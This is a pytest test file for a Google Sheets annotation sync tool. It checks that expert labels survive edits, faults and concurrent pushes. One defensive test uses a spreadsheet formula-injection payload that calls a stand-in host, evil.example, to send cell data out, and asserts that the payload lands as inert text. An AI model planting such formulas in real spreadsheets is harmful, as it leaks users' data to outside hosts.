"""The annotation round trip on Google Sheets, through the real gspread client against the emulator:
the expert re-orders the sheet, faults hit the write, a push is killed, the expert types during a push —
and no label is ever lost or changed."""

import os
import subprocess
import sys
import time

import pytest

from sheetsync.config import load_config
from sheetsync.pull import pull
from sheetsync.push import push
from sheetsync.workspace import init_workspace
from tests.test_roundtrip_xlsx import LABELS, default_rows, write_data

TITLE = "Support labels"


class GoogleExpert:
    """Plays the expert in Google Sheets: edits go through gspread like the web UI's would through the API."""

    def __init__(self, client, title=TITLE):
        self.sh = client.open(title)
        self.ws = self.sh.worksheet("Annotate")

    def grid(self):
        return self.ws.get_all_values()

    def rows(self):
        grid = self.grid()
        h = grid[0]
        return {r[h.index("id")]: dict(zip(h, r + [""] * (len(h) - len(r)), strict=True)) for r in grid[1:]
                if len(r) > h.index("id") and r[h.index("id")]}

    def label(self, labels):
        grid = self.grid()
        h = grid[0]
        updates = []
        for r, line in enumerate(grid[1:], start=2):
            rid = line[h.index("id")] if line else ""
            if rid in labels:
                for header, value in zip(("Pass/Fail", "Critique", "Root cause"), labels[rid], strict=True):
                    col = h.index(header) + 1
                    updates.append({"range": _a1(r, col), "values": [[value]]})
        self.ws.batch_update(updates, value_input_option="RAW")

    def request(self, body):
        self.sh.batch_update({"requests": [body]})

    def sort_by(self, header, descending=True):
        col = self.grid()[0].index(header)
        self.request({"sortRange": {"range": {"sheetId": self.ws.id, "startRowIndex": 1},
                                    "sortSpecs": [{"dimensionIndex": col,
                                                   "sortOrder": "DESCENDING" if descending else "ASCENDING"}]}})

    def insert_blank_row(self, index):
        self.request({"insertDimension": {"range": {"sheetId": self.ws.id, "dimension": "ROWS",
                                                    "startIndex": index, "endIndex": index + 1}}})

    def delete_row_with(self, rid):
        grid = self.grid()
        at = next(i for i, line in enumerate(grid) if line and line[0] == rid)
        self.request({"deleteDimension": {"range": {"sheetId": self.ws.id, "dimension": "ROWS",
                                                    "startIndex": at, "endIndex": at + 1}}})

    def move_column_to_b(self, header):
        grid = self.grid()
        col = grid[0].index(header)
        values = [[line[col] if col < len(line) else ""] for line in grid]
        self.request({"insertDimension": {"range": {"sheetId": self.ws.id, "dimension": "COLUMNS",
                                                    "startIndex": 1, "endIndex": 2}}})
        self.ws.update(values=values, range_name=f"B1:B{len(values)}", raw=True)
        self.request({"deleteDimension": {"range": {"sheetId": self.ws.id, "dimension": "COLUMNS",
                                                    "startIndex": col + 1, "endIndex": col + 2}}})


def _a1(row, col):
    from gspread.utils import rowcol_to_a1

    return rowcol_to_a1(row, col)


@pytest.fixture
def workspace(tmp_path, monkeypatch, sheets_emulator):
    monkeypatch.setenv("SHEETS_EMULATOR_HOST", sheets_emulator.address)
    monkeypatch.chdir(tmp_path)
    init_workspace(tmp_path, spreadsheet=TITLE)
    toml = tmp_path / "sheetsync.toml"
    toml.write_text(
        toml.read_text().replace("context = []", 'context = ["tier"]').replace("dimensions = []", 'dimensions = ["feature"]')
        .replace("timeout = 30", "timeout = 3")
    )
    write_data(tmp_path / "data.csv", default_rows())
    return load_config(toml)


def counts(emulator):
    kinds = [e.kind for e in emulator.request_log]
    return kinds.count("read"), kinds.count("write")


def test_each_step_moves_only_what_it_must(workspace, tmp_path, sheets_emulator, gspread_client):
    sheets_emulator.clear_log()
    push(workspace, tmp_path / "data.csv")
    assert counts(sheets_emulator) == (2, 1)  # the tab is not there yet; metadata; one write (+ Drive)
    GoogleExpert(gspread_client).label(LABELS)
    sheets_emulator.clear_log()
    push(workspace, tmp_path / "data.csv")
    assert counts(sheets_emulator) == (1, 0)  # nothing changed: one read, nothing written
    rows = default_rows(7)
    rows[2]["output"] = "a better answer 3"
    write_data(tmp_path / "data.csv", rows)
    sheets_emulator.clear_log()
    result = push(workspace, tmp_path / "data.csv")
    # reads: the tab, metadata, the header row with its column marks, and the check that every row landed by
    # its id; writes: the new row appended holding its id, then every cell by column identity (google_identity)
    assert counts(sheets_emulator) == (4, 2)
    assert (result.added, result.updated, result.stale) == (["r7"], 1, ["r3"])
    sheets_emulator.clear_log()
    pull(workspace)
    assert counts(sheets_emulator) == (1, 0)


def test_the_tab_is_the_experts_workbench(workspace, tmp_path, sheets_emulator, gspread_client):
    push(workspace, tmp_path / "data.csv")
    meta = gspread_client.open(TITLE).fetch_sheet_metadata({"includeGridData": "false"})
    sheets = {s["properties"]["title"]: s for s in meta["sheets"]}
    assert list(sheets) == ["Instructions", "Annotate"]
    annotate = sheets["Annotate"]
    grid = annotate["properties"]["gridProperties"]
    assert grid["frozenRowCount"] == 1 and grid["frozenColumnCount"] == 1
    assert all(p["warningOnly"] for p in annotate["protectedRanges"])
    assert len(annotate["conditionalFormats"]) == 4
    validations = gspread_client.open(TITLE).fetch_sheet_metadata(
        {"includeGridData": "true", "ranges": "'Annotate'!A2:Z2"}
    )["sheets"][0]["data"][0]["rowData"][0]["values"]
    rules = [v["dataValidation"] for v in validations if "dataValidation" in v]
    choices = [[c["userEnteredValue"] for c in r["condition"]["values"]] for r in rules]
    assert ["Pass", "Fail"] in choices and any("hallucinated fact" in c for c in choices)
    assert any(r.get("strict") is not True for r in rules)  # root cause accepts free text


def test_labels_survive_what_the_expert_does_to_the_sheet(workspace, tmp_path, gspread_client):
    push(workspace, tmp_path / "data.csv")
    expert = GoogleExpert(gspread_client)
    expert.label(LABELS)
    expert.sort_by("Critique")
    expert.insert_blank_row(3)
    expert.delete_row_with("r6")
    expert.move_column_to_b("Critique")

    rows = default_rows(7)
    rows[1]["output"] = "a rewritten answer 2"
    del rows[4]
    write_data(tmp_path / "data.csv", rows)
    result = push(workspace, tmp_path / "data.csv")

    after = GoogleExpert(gspread_client).rows()
    for rid, (verdict, critique, cause) in LABELS.items():
        assert (after[rid]["Pass/Fail"], after[rid]["Critique"], after[rid]["Root cause"]) == (verdict, critique, cause)
    assert result.stale == ["r2"] and after["r2"]["Status"].startswith("stale")
    assert result.removed == ["r5"] and after["r7"]["input"] == "question 7"
    assert GoogleExpert(gspread_client).grid()[0][1] == "Critique"
    summary = pull(workspace)
    assert summary.labelled == 4 and summary.stale == ["r2"]


def test_formula_like_text_arrives_as_text(workspace, tmp_path, gspread_client):
    rows = default_rows(1)
    rows[0]["input"] = '=IMPORTXML("http://evil.example/?q="&A1,"//a")'
    rows[0]["output"] = "+1"
    rows[0]["tier"] = "007"
    write_data(tmp_path / "data.csv", rows)
    push(workspace, tmp_path / "data.csv")
    ws = gspread_client.open(TITLE).worksheet("Annotate")
    formulas = ws.get("A2:E2", value_render_option="FORMULA")[0]
    assert formulas[2:5] == ["007", rows[0]["input"], "+1"]


@pytest.mark.parametrize("fault", ["429", "503", "500"])
def test_faults_on_the_write_are_retried(workspace, tmp_path, sheets_emulator, gspread_client, fault):
    push(workspace, tmp_path / "data.csv")
    GoogleExpert(gspread_client).label(LABELS)
    sheets_emulator.add_fault(fault, method="POST", path_contains=":batchUpdate", count=2)
    write_data(tmp_path / "data.csv", default_rows(8))
    result = push(workspace, tmp_path / "data.csv")
    assert result.added == ["r7", "r8"]
    after = GoogleExpert(gspread_client).rows()
    assert all(after[rid]["Critique"] == LABELS[rid][1] for rid in LABELS)


def test_persistent_failure_is_a_clear_error_with_nothing_half_written(workspace, tmp_path, sheets_emulator,
                                                                      gspread_client):
    from sheetsync.errors import SheetsyncError

    push(workspace, tmp_path / "data.csv")
    GoogleExpert(gspread_client).label(LABELS)
    before = GoogleExpert(gspread_client).grid()
    sheets_emulator.add_fault("503", method="POST", path_contains=":batchUpdate", count=100)
    write_data(tmp_path / "data.csv", default_rows(9))
    with pytest.raises(SheetsyncError) as err:
        push(workspace, tmp_path / "data.csv")
    assert "503" in str(err.value)
    sheets_emulator.clear_faults()
    assert GoogleExpert(gspread_client).grid() == before  # nothing half-written


def between_read_and_write(monkeypatch, action):
    """Run ``action`` (the expert, in the web UI) after the push has read the sheet and before it writes:
    the race window, made deterministic."""
    from sheetsync.backends.google_workbook import GoogleWorkbook

    original = GoogleWorkbook.write

    def write(self, specs):
        action()
        return original(self, specs)

    monkeypatch.setattr(GoogleWorkbook, "write", write)


def test_expert_typing_during_a_push_is_kept(workspace, tmp_path, gspread_client, monkeypatch):
    push(workspace, tmp_path / "data.csv")
    GoogleExpert(gspread_client).label(LABELS)
    between_read_and_write(monkeypatch, lambda: GoogleExpert(gspread_client).label(
        {"r5": ("Fail", "Typed while sheetsync was pushing, must survive.", "")}))
    write_data(tmp_path / "data.csv", default_rows(7))
    push(workspace, tmp_path / "data.csv")
    after = GoogleExpert(gspread_client).rows()
    assert after["r5"]["Critique"] == "Typed while sheetsync was pushing, must survive."
    assert all(after[rid]["Critique"] == LABELS[rid][1] for rid in LABELS)


def test_a_push_killed_mid_write_loses_nothing(workspace, tmp_path, sheets_emulator, gspread_client):
    push(workspace, tmp_path / "data.csv")
    GoogleExpert(gspread_client).label(LABELS)
    before = GoogleExpert(gspread_client).grid()
    sheets_emulator.add_fault("hang", method="POST", path_contains=":batchUpdate", count=1, seconds=30)
    write_data(tmp_path / "data.csv", default_rows(12))
    env = {**os.environ, "SHEETS_EMULATOR_HOST": sheets_emulator.address}
    proc = subprocess.Popen([sys.executable, "-m", "sheetsync", "push", "data.csv"], cwd=tmp_path, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.time() + 20
    while time.time() < deadline and not any(
        e.method == "POST" and ":batchUpdate" in e.path for e in sheets_emulator.request_log
    ):
        time.sleep(0.05)
    proc.kill()
    proc.wait()
    assert GoogleExpert(gspread_client).grid() == before  # the killed push changed nothing
    result = push(workspace, tmp_path / "data.csv")  # and the next push completes the job
    assert len(result.added) == 6
    after = GoogleExpert(gspread_client).rows()
    assert all(after[rid]["Critique"] == LABELS[rid][1] for rid in LABELS)


def test_the_experts_own_highlighting_survives_a_re_push(workspace, tmp_path, gspread_client):
    push(workspace, tmp_path / "data.csv")
    expert = GoogleExpert(gspread_client)
    expert.request({"addConditionalFormatRule": {"index": 0, "rule": {
        "ranges": [{"sheetId": expert.ws.id, "startRowIndex": 1, "startColumnIndex": 3, "endColumnIndex": 4}],
        "booleanRule": {"condition": {"type": "TEXT_CONTAINS", "values": [{"userEnteredValue": "refund"}]},
                        "format": {"backgroundColor": {"red": 1, "green": 1, "blue": 0}}}}}})
    push(workspace, tmp_path / "data.csv")
    push(workspace, tmp_path / "data.csv")
    meta = gspread_client.open(TITLE).fetch_sheet_metadata({"includeGridData": "false"})
    rules = next(s for s in meta["sheets"] if s["properties"]["title"] == "Annotate")["conditionalFormats"]
    conditions = [r["booleanRule"]["condition"] for r in rules]
    assert sum(c["type"] == "TEXT_CONTAINS" for c in conditions) == 1
    assert sum('N("sheetsync")' in c["values"][0]["userEnteredValue"] for c in conditions
               if c["type"] == "CUSTOM_FORMULA") == 4


def test_a_sort_landing_during_a_push_never_pairs_a_label_with_another_id(workspace, tmp_path, gspread_client,
                                                                         monkeypatch):
    push(workspace, tmp_path / "data.csv")
    GoogleExpert(gspread_client).label(LABELS)
    rows = default_rows(7)
    for r in rows:
        r["output"] += " (revised)"  # every row is rewritten, at the positions the push read
    write_data(tmp_path / "data.csv", rows)
    with monkeypatch.context() as m:
        between_read_and_write(m, lambda: GoogleExpert(gspread_client).sort_by("Critique", descending=False))
        result = push(workspace, tmp_path / "data.csv")
    after = GoogleExpert(gspread_client).rows()
    for rid, (verdict, critique, cause) in LABELS.items():
        assert (after[rid]["Pass/Fail"], after[rid]["Critique"], after[rid]["Root cause"]) == (verdict, critique, cause)
    # the push saw its text land beside other ids and put every row back before it finished
    assert all(after[f"r{i}"]["input"] == f"question {i}" for i in range(1, 8))
    assert all(after[f"r{i}"]["output"].endswith("(revised)") for i in range(1, 8))
    # sorted by critique ("Correct…" r1, "Good." r4, "Ignored…" r3, "Quoted…" r2): r2 and r4 moved
    assert {"r2", "r4"} <= set(result.repaired)
